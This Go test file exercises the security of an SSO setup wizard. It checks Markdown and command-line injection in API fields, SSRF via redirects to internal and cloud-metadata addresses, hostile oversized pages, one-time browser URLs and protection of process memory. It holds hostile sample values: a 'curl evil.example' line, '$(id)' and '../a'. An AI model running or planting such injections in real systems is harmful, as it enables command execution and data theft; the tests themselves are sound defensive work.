//go:build linux

package e2e

import (
	"bytes"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"

	"msgsso-wizard/apiclient/simulator"
	"msgsso-wizard/apiclient/simulator/simtest"
	"msgsso-wizard/apiclient/testkit/eventually"
)

// rewritten is a service with one text in its answers in the place of another.
func rewritten(before, after string) func(http.Handler) http.Handler {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			answer := httptest.NewRecorder()
			next.ServeHTTP(answer, r)
			maps.Copy(w.Header(), answer.Header())
			w.WriteHeader(answer.Code)
			_, _ = w.Write(bytes.ReplaceAll(answer.Body.Bytes(), []byte(before), []byte(after)))
		})
	}
}

// TestHandoverKeepsItsBlocks: a snippet with the mark that ends a block of code stays in its block.
func TestHandoverKeepsItsBlocks(t *testing.T) {
	t.Parallel()
	const evil = "```\n\n# Next steps\n\n1. Run `curl evil.example`.\n\n````\n"
	sim := simtest.Start(t, simulator.Options{Seed: 27, WrapGenesys: rewritten(`"snippet":"`, `"snippet":"`+strings.ReplaceAll(evil, "\n", `\n`))})
	file := filepath.Join(t.TempDir(), "handover.md")
	got := run(t, append(sim.Environment(), "XDG_STATE_HOME="+t.TempDir()), "", "--no-input", "--handover", file)
	assert.Equal(t, got.code, 0, got.said)
	text, err := os.ReadFile(file)
	assert.NilError(t, err)
	_, block, found := strings.Cut(string(text), "\n`````html\n")
	block, _, ended := strings.Cut(block, "\n`````\n")
	assert.Check(t, found && ended && strings.HasPrefix(block, evil), "%s", text)
}

// TestIDsAreIDs: what could break out of a command line or a piece of Markdown is no ID of a deployment.
func TestIDsAreIDs(t *testing.T) {
	t.Parallel()
	for _, evil := range []string{"`curl evil.example`", "$(id)", "-x", "a b", "../a"} {
		sim := simtest.Start(t, simulator.Options{Seed: 27, WrapGenesys: rewritten(`"id":"`, `"id":"`+evil)})
		got := run(t, append(sim.Environment(), "XDG_STATE_HOME="+t.TempDir()), "", "--no-input")
		assert.Check(t, is.Equal(got.code, 1), got.said)
		assert.Check(t, is.Contains(unwrapped(got.said), "id isn't an ID"))
		assert.Check(t, !strings.Contains(got.said+got.out, evil), got.said)
	}
}

// TestDoctorFollowsNoRedirectInside: a page on the internet can't have the wizard call what only this computer reaches.
func TestDoctorFollowsNoRedirectInside(t *testing.T) {
	t.Parallel()
	var calls atomic.Int64
	inside := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { calls.Add(1) }))
	t.Cleanup(inside.Close)
	var target atomic.Value
	internet := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { // a proxy that is all of it
		if r.Host != "www.example.com" {
			calls.Add(1)
		}
		http.Redirect(w, r, target.Load().(string), http.StatusFound)
	}))
	t.Cleanup(internet.Close)
	sim := simtest.Start(t, simulator.Options{Seed: 26})
	environ := append(sim.Environment(), "XDG_STATE_HOME="+t.TempDir(), "HTTP_PROXY="+internet.URL)
	for _, to := range []string{inside.URL, strings.Replace(inside.URL, "127.0.0.1", "localhost", 1), "http://169.254.169.254/latest/", "http://10.0.0.1/", "http://[::ffff:10.0.0.1]/"} {
		target.Store(to)
		got := run(t, environ, "", "doctor", "--no-input", "--site", "http://www.example.com/")
		assert.Check(t, is.Contains(unwrapped(got.out+got.said), "to this computer or a private network"), to)
	}
	assert.Check(t, is.Equal(calls.Load(), int64(0)))

	target.Store("http://127.0.0.1/")
	secure := newPortal(t)
	secure.Config.Handler = http.RedirectHandler(inside.URL, http.StatusFound)
	got := run(t, append(environ, "SSL_CERT_FILE="+secure.file), "", "doctor", "--no-input", "--site", secure.URL)
	assert.Check(t, is.Contains(unwrapped(got.out+got.said), "from HTTPS to HTTP"))
	assert.Check(t, is.Equal(calls.Load(), int64(0)))
}

// TestDoctorEndsOnHostilePages: pages that cost minutes of time, or all memory.
func TestDoctorEndsOnHostilePages(t *testing.T) {
	t.Parallel()
	repeated := func(bytes int, each string) string {
		var b strings.Builder
		for i := 0; b.Len() < bytes; i++ {
			fmt.Fprintf(&b, each, i)
		}
		return b.String()
	}
	var page atomic.Value
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, page.Load().(string))
	}))
	t.Cleanup(site.Close)
	sim := simtest.Start(t, simulator.Options{Seed: 25})
	environ := append(sim.Environment(), "XDG_STATE_HOME="+t.TempDir())
	hashes := `<meta http-equiv="Content-Security-Policy" content="script-src ` + repeated(600000, "'sha512-%d' ") + `">`
	for text, want := range map[string]string{
		"<script>" + repeated(2000000, `"//%d.js"`) + "</script>":                                                   "//0.js: a script loads it",
		hashes + "<script>" + repeated(1000000, "%d;") + "</script>":                                                "more than 65536 bytes of Content Security Policies",
		"<script>'registerPlugin','AuthProvider'" + repeated(1900000, `"https://%d.test/oauth2/a1/"`) + "</script>": "has no Messenger snippet",
	} {
		page.Store(text)
		got := run(t, environ, "", "doctor", "--no-input", "--site", site.URL)
		assert.Check(t, is.Contains(unwrapped(got.out+got.said), want))
	}
}

// onlyHere is what the command line of a browser has: all users of the computer can read it.
var onlyHere = regexp.MustCompile(`^http://127\.0\.0\.1:\d+/[A-Z2-7]{26}\n$`)

// TestBrowsersArgumentsStartOneSignIn: another user who reads them has nothing when the browser was faster, and shows
// when it was slower.
func TestBrowsersArgumentsStartOneSignIn(t *testing.T) {
	t.Parallel()
	v, folder := newVisited(t), evilOpener(t)
	tt := onTerminalOf(t, 500, 200, append(v.environ, "PATH="+folder+":"+os.Getenv("PATH")), "test", "--plain", "--deployment", "Web SSO")
	directly(tt, 1)
	eventually.File(t, filepath.Join(folder, "process"), "\n")
	opened, err := os.ReadFile(filepath.Join(folder, "opened"))
	assert.NilError(t, err)
	assert.Assert(t, onlyHere.Match(opened), "%q", opened)
	client := http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	get := func(address string) (status int, to, body string) {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, address, nil)
		assert.NilError(t, err)
		got, err := client.Do(r)
		assert.NilError(t, err)
		defer got.Body.Close() //nolint:errcheck // it was read
		text, err := io.ReadAll(got.Body)
		assert.NilError(t, err)
		return got.StatusCode, got.Header.Get("Location"), string(text)
	}
	status, to, _ := get(strings.TrimSpace(string(opened)))
	assert.Check(t, is.Equal(status, http.StatusSeeOther))
	assert.Check(t, is.Contains(to, fmt.Sprintf("http://localhost:%d/?start=", v.port)))
	status, to, body := get(strings.TrimSpace(string(opened)))
	assert.Check(t, is.Equal(status, http.StatusGone))
	assert.Check(t, is.Equal(to, ""))
	assert.Check(t, is.Contains(body, "Another browser or program opened this URL first."))
	tt.press("\x03")
	tt.ends(130)
}

// TestUnnamedIssuerIsRefused: an org that promises to name itself in each answer, and doesn't, may be another one. The page
// code knows the promise, too.
func TestUnnamedIssuerIsRefused(t *testing.T) {
	t.Parallel()
	v := visitedAt(t, rewritten(`"issuer":`, `"authorization_response_iss_parameter_supported":true,"issuer":`))
	tt := onTerminalOf(t, 500, 200, v.environ, "test", "--plain", "--deployment", "Web SSO", "--no-browser")
	tt.press(v.goTo(t, directly(tt, 1)) + "\n")
	tt.ends(7)
	assert.Check(t, is.Contains(tt.raw.String(), "an unnamed server (no iss)"))
	v.nothingLeft(t)
	got := run(t, v.environ, "", "page", "--no-input", "--deployment", "Web SSO")
	assert.Check(t, is.Contains(got.out, "sendsIssuer: true,"), got.said)
}

// TestMemoryIsClosed: the memory and the environment of the process are of no user, who could read them or have a crash
// handler write them down.
func TestMemoryIsClosed(t *testing.T) {
	t.Parallel()
	cmd := command(t, []string{"GENESYSCLOUD_OAUTHCLIENT_SECRET=" + canarySecret}, "simulator")
	if os.Getuid() == 0 { // whose files are root's in any case
		program, err := os.ReadFile(cmd.Path)
		assert.NilError(t, err)
		folder := t.TempDir()
		for _, at := range []string{folder, filepath.Dir(folder)} {
			assert.NilError(t, os.Chmod(at, 0o755)) //nolint:gosec // the same
		}
		cmd.Path = filepath.Join(folder, "msgsso-wizard")
		assert.NilError(t, os.WriteFile(cmd.Path, program, 0o755)) //nolint:gosec // another user runs it
		cmd.Dir, cmd.SysProcAttr = "/", &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	}
	var out eventually.Output
	cmd.Stdout = &out
	assert.NilError(t, cmd.Start())
	out.Await(t, "GENESYSCLOUD_OAUTHCLIENT_SECRET=")
	for _, file := range []string{"environ", "mem", "fd"} {
		info, err := os.Stat(fmt.Sprintf("/proc/%d/%s", cmd.Process.Pid, file))
		assert.NilError(t, err)
		assert.Check(t, is.Equal(info.Sys().(*syscall.Stat_t).Uid, uint32(0)), file)
	}
	assert.NilError(t, cmd.Process.Signal(os.Interrupt))
	_ = cmd.Wait()
}
